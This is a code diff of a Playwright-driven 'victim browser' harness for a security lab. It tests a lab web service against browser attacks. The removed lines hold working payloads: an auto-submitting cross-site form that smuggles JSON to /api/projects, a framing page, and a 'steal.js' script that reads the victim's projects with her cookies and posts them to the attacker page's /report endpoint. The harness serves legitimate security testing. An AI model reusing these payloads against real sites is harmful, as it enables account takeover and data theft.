@@ -1,231 +1,148 @@
-// The victim's browser for stage 5's browser attacks: Debian's Chromium, driven by playwright-core, trusting the lab
-// CA through an NSS database in a fresh HOME (never by ignoring certificate errors). The attack (src/attacks/
-// browser_attacks.cpp) prepares the server side, runs one scenario here and decides from what happened; this
-// script only drives the browser and the attacker's page, and writes down what the browser did.
+// The victim's browser for stage 5's browser attacks: one Debian Chromium, driven by playwright-core, shared by the
+// browser attacks of one lab process (a matrix plays its browser cells side by side in it). Each attack gets a
+// browser context of its own: cookies, storage and cache as fresh as a new profile's. Chromium trusts each stage's
+// lab CA through the NSS database of a fresh HOME, as a user's browser would, never by ignoring certificate errors.
+// The scenarios are in victim_scenarios.cjs; src/attacks/browser_host.* starts this host and asks it.
 //
-//   node victim_browser.cjs SCENARIO --origin https://localhost:PORT --ca-dir DIR --user ID --password PW
-//                           --work DIR --out FILE [--project ID] [--name TEXT] [--chromium PATH]
+//   node victim_browser.cjs --work DIR [--chromium PATH]
 //
-// Scenarios (the victim is signed in through the sign-in form first, in the same browser profile):
-//   open-project      the victim opens /project?id=ID, where a task's result holds what another agent wrote;
-//   open-dashboard    the victim opens /dashboard, whose list holds project ID, named by another coordinator;
-//   cross-site-form   the victim opens a page on http://127.0.0.2 whose form POSTs {"name": NAME} to /api/projects;
-//   frame             the victim opens a page on http://127.0.0.2 that frames the dashboard;
-//   same-site-read    the victim opens a page of another origin of the same site (https://localhost:OTHER_PORT,
-//                     served with the lab CA's localhost certificate: another service on the host) whose script
-//                     reads /api/projects with the victim's cookies, refreshing once if the token has expired.
+// DIR is its starter's own directory (mode 0700) holding `token`. The host listens on 127.0.0.1, on a port the
+// kernel picks, written to DIR/port as "PORT tcp" once it listens. Each connection brings one request, a JSON line:
+//
+//   {"token": T, "scenario": S, "origin": "https://localhost:PORT", "ca_dir": DIR, "user": U, "password": P,
+//    "project": ID, "name": TEXT}                                  (project and name where the scenario needs them)
+//
+// and gets one line back: {"facts": {...}} or {"error": "..."}. T must be DIR/token's content, so no other local
+// process can make the victim's browser do anything. The host stops on SIGTERM, when its parent has gone, or when
+// Chromium has.
 'use strict';
 
+const crypto = require('node:crypto');
 const { execFileSync } = require('node:child_process');
 const fs = require('node:fs');
-const http = require('node:http');
-const https = require('node:https');
+const net = require('node:net');
 const path = require('node:path');
 const { chromium } = require('playwright-core');
+const { scenarios, signIn } = require('./victim_scenarios.cjs');
+
+const kMaxRequestBytes = 64 * 1024;
 
 function options(argv) {
-  const o = { scenario: argv[0] };
-  for (let i = 1; i < argv.length; i += 2) {
+  const o = {};
+  for (let i = 0; i < argv.length; i += 2) {
     if (!argv[i].startsWith('--') || argv[i + 1] === undefined) throw new Error(`bad argument ${argv[i]}`);
     o[argv[i].slice(2)] = argv[i + 1];
   }
-  for (const required of ['origin', 'ca-dir', 'user', 'password', 'work', 'out']) {
-    if (!o[required]) throw new Error(`--${required} is required`);
-  }
+  if (!o.work) throw new Error('--work is required');
   return o;
 }
 
-const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
-const escapeHtml = (s) => String(s).replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
-
-// A page server for the attacker; `pages(url)` answers a path with HTML, or null for 404. Resolves to its origin.
-function serve(server, host, pages, scheme) {
-  server.on('request', (req, res) => {
-    const page = pages(new URL(req.url, `${scheme}://attacker`), req, res);
-    if (page === undefined) return;  // answered by the page itself
-    res.writeHead(page ? 200 : 404, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
-    res.end(page || 'not here');
-  });
-  return new Promise((resolve, reject) => {
-    server.once('error', reject);
-    server.listen(0, host, () => resolve(server));
-  });
-}
-
-async function signIn(page, o) {
-  await page.goto(`${o.origin}/`);
-  await page.fill('[data-testid=agent-id]', o.user);
-  await page.fill('[data-testid=password]', o.password);
-  await Promise.all([page.waitForURL(`${o.origin}/dashboard`), page.click('[data-testid=signin-submit]')]);
-  await page.locator('[data-testid=whoami]', { hasText: o.user }).waitFor();
-}
-
-// What `element` shows of the stored text, once a handler in it has had time to run and what it sent to be answered,
-// were there one: its text, how many elements it holds, and the page's errors.
-async function shownMarkup(page, element, errors) {
-  await sleep(300);
-  await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => {});
-  return { shownText: (await element.textContent()) || '', elementsShown: await element.locator('*').count(),
-           pageErrors: errors };
-}
-
-const scenarios = {
-  async 'open-project'(context, page, o) {
-    const errors = [];
-    page.on('pageerror', (e) => errors.push(e.message));
-    await page.goto(`${o.origin}/project?id=${encodeURIComponent(o.project)}`);
-    const cell = page.locator('[data-testid=task-row] td[data-field=result]').first();
-    await cell.waitFor({ state: 'attached', timeout: 20000 });
-    // The row is filled by script after the list loads; then time for a handler to run, were there one.
-    const deadline = Date.now() + 15000;
-    let text = '';
-    while (Date.now() < deadline && !(text = (await cell.textContent()) || '') && (await cell.locator('*').count()) === 0) {
-      await sleep(100);
-    }
-    return shownMarkup(page, cell, errors);
-  },
-
-  async 'open-dashboard'(context, page, o) {
-    const errors = [];
-    page.on('pageerror', (e) => errors.push(e.message));
-    await page.goto(`${o.origin}/dashboard`);
-    const link = page.locator(`[data-testid=project-item][data-project-id="${o.project}"] [data-testid=project-link]`);
-    await link.waitFor({ state: 'attached', timeout: 20000 });
-    return shownMarkup(page, link, errors);
-  },
-
-  async 'cross-site-form'(context, page, o) {
-    const target = `${o.origin}/api/projects`;
-    const attacker = await serve(http.createServer(), '127.0.0.2', (url) => url.pathname !== '/' ? null :
-      // A text/plain form whose body reads as JSON: NAME=VALUE is {"name":"...","description":"="}.
-      `<!DOCTYPE html><html><body><h1>You won a prize</h1>
-<form id="f" method="POST" enctype="text/plain" action="${escapeHtml(target)}">
-<input type="hidden" name="${escapeHtml(`{"name":${JSON.stringify(o.name)},"description":"`)}" value="${escapeHtml('"}')}">
-</form><script>document.getElementById('f').submit();</script></body></html>`, 'http');
-    try {
-      const answers = [];
-      page.on('response', async (r) => {
-        if (r.url() === target && r.request().method() === 'POST') {
-          answers.push({ status: r.status(), body: await r.text().catch(() => '') });
-        }
-      });
-      const evil = `http://127.0.0.2:${attacker.address().port}/`;
-      await page.goto(evil);
-      const deadline = Date.now() + 20000;
-      while (answers.length === 0 && Date.now() < deadline) await sleep(100);
-      return { attackerPage: evil, formAnswers: answers };
-    } finally {
-      attacker.close();
-    }
-  },
-
-  async frame(context, page, o) {
-    const target = `${o.origin}/dashboard`;
-    const attacker = await serve(http.createServer(), '127.0.0.2', (url) => url.pathname !== '/' ? null :
-      `<!DOCTYPE html><html><body><h1>Click the button for a prize</h1>
-<iframe name="victim" src="${escapeHtml(target)}" width="800" height="600"></iframe></body></html>`, 'http');
-    try {
-      const evil = `http://127.0.0.2:${attacker.address().port}/`;
-      await page.goto(evil);
-      // The frame's navigations (the dashboard, perhaps on to the sign-in page, or the browser's error page) settle.
-      const settled = Date.now() + 15000;
-      const current = () => { const f = page.frame({ name: 'victim' }); return f ? f.url() : ''; };
-      while (Date.now() < settled && (current() === '' || current() === 'about:blank')) await sleep(50);
-      await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => {});
-      await sleep(200);
-      const frame = page.frame({ name: 'victim' });
-      const url = frame ? frame.url() : '';
-      const heading = frame && url.startsWith(`${o.origin}/`)
-        ? await frame.evaluate(() => { const h = document.querySelector('main h1'); return h ? h.textContent : null; })
-            .catch(() => null)
-        : null;
-      return { attackerPage: evil, frameUrl: url, labHeadingInFrame: heading };
-    } finally {
-      attacker.close();
-    }
-  },
-
-  async 'same-site-read'(context, page, o) {
-    const reports = [];
-    const tls = { cert: fs.readFileSync(path.join(o['ca-dir'], 'localhost.crt')),
-                  key: fs.readFileSync(path.join(o['ca-dir'], 'localhost.key')) };
-    const api = `${o.origin}/api/projects`;
-    const attacker = await serve(https.createServer(tls), '127.0.0.1', (url, req, res) => {
-      if (url.pathname === '/report' && req.method === 'POST') {
-        let body = '';
-        req.on('data', (c) => { body += c; });
-        req.on('end', () => { reports.push(body); res.writeHead(204); res.end(); });
-        return undefined;
-      }
-      if (url.pathname === '/steal.js') {
-        res.writeHead(200, { 'Content-Type': 'text/javascript' });
-        res.end(`(async () => {
-  const read = () => fetch(${JSON.stringify(api)}, { credentials: 'include' }).then(async (r) => ({ status: r.status, body: await r.text() }));
-  let out;
-  try {
-    out = await read();
-    if (out.status === 401) {
-      const csrf = (document.cookie.match(/(?:^|; )__Host-csrf=([^;]*)/) || [])[1] || '';
-      await fetch(${JSON.stringify(`${o.origin}/api/session/refresh`)}, { method: 'POST', credentials: 'include',
-        headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': csrf }, body: '{}' });
-      out = await read();
-    }
-  } catch (e) {
-    out = { error: String(e) };
+// The NSS database of the browser's HOME, which trusts each lab CA a request names (once per distinct CA).
+class TrustStore {
+  constructor(home) {
+    this.db = path.join(home, '.pki', 'nssdb');
+    this.trusted = new Set();
+    fs.mkdirSync(this.db, { recursive: true });
+    execFileSync('certutil', ['-d', `sql:${this.db}`, '-N', '--empty-password']);
   }
-  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
-})();`);
-        return undefined;
-      }
-      return url.pathname === '/' ? '<!DOCTYPE html><html><body><h1>Team calendar</h1><script src="/steal.js"></script></body></html>' : null;
-    }, 'https');
-    try {
-      const evil = `https://localhost:${attacker.address().port}/`;
-      await page.goto(evil);
-      const deadline = Date.now() + 20000;
-      while (reports.length === 0 && Date.now() < deadline) await sleep(100);
-      let read = null;
-      try { read = reports.length ? JSON.parse(reports[0]) : null; } catch { read = { error: 'unreadable report' }; }
-      return { attackerPage: evil, read };
-    } finally {
-      attacker.close();
+
+  trust(caDir) {
+    const file = path.join(caDir, 'ca.crt');
+    const id = crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex').slice(0, 32);
+    if (this.trusted.has(id)) return;
+    execFileSync('certutil', ['-d', `sql:${this.db}`, '-A', '-t', 'C,,', '-n', `lab-ca-${id}`, '-i', file]);
+    this.trusted.add(id);
+  }
+}
+
+// One request: the victim signs in, in a context of her own, and plays the scenario; its facts.
+async function play(browser, trustStore, request) {
+  const scenario = scenarios[request.scenario];
+  if (!scenario) throw new Error(`unknown scenario ${request.scenario}; there are: ${Object.keys(scenarios).join(', ')}`);
+  for (const field of ['origin', 'ca_dir', 'user', 'password']) {
+    if (typeof request[field] !== 'string' || !request[field]) throw new Error(`the request needs ${field}`);
+  }
+  const o = { origin: request.origin, 'ca-dir': request.ca_dir, user: request.user, password: request.password,
+              project: request.project, name: request.name };
+  trustStore.trust(o['ca-dir']);
+  const context = await browser.newContext();
+  try {
+    // Generous bounds: the stage under attack may be a sanitizer build on a machine busy with other cells.
+    context.setDefaultTimeout(30000);
+    context.setDefaultNavigationTimeout(30000);
+    const page = await context.newPage();
+    await signIn(page, o);
+    return { scenario: request.scenario, ...(await scenario(context, page, o)) };
+  } finally {
+    await context.close().catch(() => {});
+  }
+}
+
+function sameToken(given, expected) {
+  const a = Buffer.from(String(given || '')), b = Buffer.from(expected);
+  return a.length === b.length && crypto.timingSafeEqual(a, b);
+}
+
+// Reads one line from `socket` (at most kMaxRequestBytes), answers it with `answer(line)`'s reply, and closes.
+function serveOneLine(socket, answer) {
+  let buffered = '';
+  const reply = (value) => socket.end(`${JSON.stringify(value)}\n`);
+  socket.setEncoding('utf8');
+  socket.on('error', () => {});
+  socket.on('data', (chunk) => {
+    if (buffered === null) return;
+    buffered += chunk;
+    const end = buffered.indexOf('\n');
+    if (end < 0) {
+      if (buffered.length > kMaxRequestBytes) { buffered = null; reply({ error: 'request too long' }); }
+      return;
     }
-  },
-};
+    const line = buffered.slice(0, end);
+    buffered = null;
+    answer(line).then(reply, (e) => reply({ error: e && e.stack ? e.stack : String(e) }));
+  });
+}
 
 async function main() {
   const o = options(process.argv.slice(2));
-  const scenario = scenarios[o.scenario];
-  if (!scenario) throw new Error(`unknown scenario ${o.scenario}; there are: ${Object.keys(scenarios).join(', ')}`);
-  // Chromium on Linux reads the user's trust anchors from $HOME/.pki/nssdb: a fresh HOME that trusts the lab CA.
+  const token = fs.readFileSync(path.join(o.work, 'token'), 'utf8').trim();
+  if (token.length < 32) throw new Error('the token file holds no token');
+  // Chromium on Linux reads the user's trust anchors from $HOME/.pki/nssdb, and sees anchors added while it runs.
   const home = path.join(o.work, 'home');
-  const nssdb = path.join(home, '.pki', 'nssdb');
-  fs.mkdirSync(nssdb, { recursive: true });
-  execFileSync('certutil', ['-d', `sql:${nssdb}`, '-N', '--empty-password']);
-  execFileSync('certutil', ['-d', `sql:${nssdb}`, '-A', '-t', 'C,,', '-n', 'labca', '-i', path.join(o['ca-dir'], 'ca.crt')]);
+  const trustStore = new TrustStore(home);
   const browser = await chromium.launch({
     executablePath: o.chromium || '/usr/bin/chromium',
     headless: true,
     env: { ...process.env, HOME: home },
     args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
            '--disable-component-update', '--disable-sync'],
+    handleSIGTERM: false, handleSIGINT: false, handleSIGHUP: false,
     timeout: 60000,
   });
-  try {
-    // Generous bounds: the stage under attack may be a sanitizer build on a machine busy with other cells.
-    const context = await browser.newContext();
-    context.setDefaultTimeout(30000);
-    context.setDefaultNavigationTimeout(30000);
-    const page = await context.newPage();
-    await signIn(page, o);
-    const facts = await scenario(context, page, o);
-    fs.writeFileSync(o.out, JSON.stringify({ scenario: o.scenario, ...facts }));
-  } finally {
-    await browser.close().catch(() => {});
-  }
+  let stopping = false;
+  const stop = (status) => {
+    if (stopping) return;
+    stopping = true;
+    browser.close().catch(() => {}).finally(() => process.exit(status));
+  };
+  browser.on('disconnected', () => { if (!stopping) { process.stderr.write('victim_browser: Chromium went away\n'); process.exit(1); } });
+  process.on('SIGTERM', () => stop(0));
+  process.on('SIGINT', () => stop(0));
+  const parent = process.ppid;
+  setInterval(() => { if (process.ppid !== parent) stop(0); }, 500);
+
+  const server = net.createServer((socket) => serveOneLine(socket, async (line) => {
+    const request = JSON.parse(line);
+    if (!sameToken(request.token, token)) return { error: 'not this host\'s token' };
+    return { facts: await play(browser, trustStore, request) };
+  }));
+  await new Promise((resolve, reject) => { server.once('error', reject); server.listen(0, '127.0.0.1', resolve); });
+  const portFile = path.join(o.work, 'port');
+  fs.writeFileSync(`${portFile}.new`, `${server.address().port} tcp\n`);
+  fs.renameSync(`${portFile}.new`, portFile);
 }
 
-main().then(() => process.exit(0), (e) => {
+main().catch((e) => {
   process.stderr.write(`victim_browser: ${e && e.stack ? e.stack : e}\n`);
   process.exit(1);
 });
